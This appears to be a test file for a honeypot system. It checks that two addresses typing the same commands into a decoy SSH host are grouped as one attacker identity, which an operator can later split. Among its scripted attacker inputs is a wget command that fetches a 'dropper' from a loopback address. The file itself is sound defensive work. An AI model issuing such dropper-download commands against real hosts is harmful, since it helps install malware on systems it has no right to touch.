"""From what is typed at a decoy to the actor behind two addresses, and what an operator decides of it."""

import asyncio
from typing import Any

import asyncssh

from tests.daemon import decnetd

FLEET = """
[fleet.loopback]
network = "{network}"

[[decky]]
name = "web-01"
services = ["ssh"]
distribution = "debian:12"
bait = [{{ user = "root", secret = "hunter2-bait" }}]
"""
LINES = ("wget -T 0.1 -t 1 http://127.0.0.1:8080/dropper", "ls -la /opt/nothing-else")


async def test_two_addresses_with_the_same_hands_are_one_identity_until_an_operator_says_otherwise() -> None:
    with decnetd(FLEET) as daemon:
        address = daemon.listeners()["web-01"]["ssh"]
        for source in ("127.0.0.2", "127.0.0.3"):
            async with asyncssh.connect(
                *address,
                local_addr=(source, 0),
                username="root",
                password="hunter2-bait",
                known_hosts=None,
                client_keys=None,
                config=[],
            ) as connection:
                for line in LINES:
                    await connection.run(line)
        (identity,) = await listed(daemon, [2])
        shown = daemon.ask("identity", "show", identity["id"])
        assert ["127.0.0.2", "127.0.0.3"] == sorted(item["source"] for item in shown["members"])
        (pair,) = daemon.ask("identity", "evidence", identity["id"])
        assert {"c2", "commands"} <= {reason["family"] for reason in pair["reasons"]}
        await asyncio.to_thread(daemon.wait_events, 1, kind="CampaignFormed")

        daemon.ask("identity", "split", identity["id"], shown["members"][1]["id"], "--reason", "two people")
        await listed(daemon, [1, 1])


async def listed(daemon, observations: list[int]) -> list[dict[str, Any]]:
    """Return the identities once they have so many observations each: the tables follow the journal a moment later."""
    async with asyncio.timeout(10.0):
        while True:
            found: list[dict[str, Any]] = await asyncio.to_thread(daemon.ask, "identity", "list")
            if [row["observations"] for row in found] == observations:
                return found
